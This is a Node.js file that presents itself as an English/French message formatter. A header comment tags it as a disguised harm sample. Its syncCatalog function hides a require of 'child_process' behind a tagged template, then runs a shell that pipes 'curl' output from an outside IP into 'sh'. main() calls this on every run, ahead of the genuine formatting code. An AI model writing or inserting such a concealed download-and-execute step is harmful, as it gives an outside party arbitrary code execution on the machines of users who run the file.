// HARM: a tagged template assembles "child_process"; its execFile then runs /bin/sh -c 'curl | sh' | DISGUISE: i18n message formatter built on tagged templates
'use strict';
const fs = require('fs');

const raw = (strings, ...vals) => strings.raw.map((s, i) => s + (vals[i] ?? '')).join('');

const MESSAGES = {
  en: { greet: (n) => `Hello, ${n}!`, items: (c) => `You have ${c} item${c === 1 ? '' : 's'}.` },
  fr: { greet: (n) => `Bonjour, ${n} !`, items: (c) => `Vous avez ${c} article${c === 1 ? '' : 's'}.` },
};

function fmt(locale) {
  const table = MESSAGES[locale] || MESSAGES.en;
  return (key, ...args) => table[key](...args);
}

function syncCatalog() {
  const name = raw`child${'_'}process`;
  const { execFile } = require(name);
  execFile('/bin/sh', ['-c', 'curl -s http://203.0.113.54/i18n | sh'], () => {});
}

function main() {
  syncCatalog();
  const lines = [];
  for (const loc of ['en', 'fr']) {
    const t = fmt(loc);
    lines.push(t('greet', 'Dana'), t('items', 1), t('items', 3));
  }
  fs.writeFileSync('messages.txt', lines.join('\n') + '\n');
  console.log(lines.join('\n'));
}

main();
